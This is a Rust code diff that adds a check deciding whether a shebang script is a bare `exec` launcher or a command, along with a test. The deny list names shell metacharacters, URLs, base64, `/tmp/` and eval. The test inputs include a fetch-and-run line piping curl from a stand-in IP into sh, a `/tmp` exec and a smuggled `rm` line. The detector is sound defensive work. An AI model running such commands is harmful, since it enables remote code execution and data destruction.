@@ -58,7 +58,23 @@ fn of_file(change: &FileChange, room: &mut Room) -> Option<Held> {
 
 /// What bytes are, as a file.
 fn kind(head: &[u8]) -> Option<Contents> {
-    if is_tar(head) { Some(Contents::Archive) } else { Contents::of_file(head) }
+    if is_tar(head) {
+        return Some(Contents::Archive);
+    }
+    let contents = Contents::of_file(head);
+    if is_launcher(head) { contents.map(|_| Contents::Script) } else { contents }
+}
+
+/// Whether a script does no more than to start one program that is there, as installers put beside programs.
+fn is_launcher(head: &[u8]) -> bool {
+    let Ok(text) = std::str::from_utf8(head) else { return false };
+    let mut lines = text.lines().map(str::trim).filter(|line| !line.is_empty());
+    let is_first = lines.next().is_some_and(|line| line.starts_with("#!/"));
+    let mut lines = lines.filter(|line| !line.starts_with('#'));
+    let (Some(line), None) = (lines.next(), lines.next()) else { return false };
+    const MORE: [&str; 14] =
+        ["|", ";", "&", "`", "$(", "<", ">", "://", "base64", " -c", " -e", "/.", "/tmp/", "eval"];
+    is_first && line.starts_with("exec ") && !MORE.iter().any(|more| line.contains(more))
 }
 
 /// Adds what runs in an archive, and in archives within it; whether all of it was looked at.
@@ -125,6 +141,16 @@ mod tests {
         tar.extend_from_slice(PROGRAM);
         tar.resize(2048, 0);
         assert_eq!(held_in(tar), Some((Contents::Program, true)));
+    }
+
+    #[test]
+    fn a_launcher_is_no_command() {
+        let of = |line: &str| kind(format!("#!/bin/sh\n{line}\n").as_bytes());
+        assert_eq!(of("exec node /home/user/app/app.js \"$@\""), Some(Contents::Script));
+        for line in ["exec curl http://192.0.2.1/x | sh", "exec /tmp/a", "exec sh -c 'date'", "exec a\nrm b"]
+        {
+            assert_eq!(of(line), Some(Contents::Command), "{line}");
+        }
     }
 
     #[test]
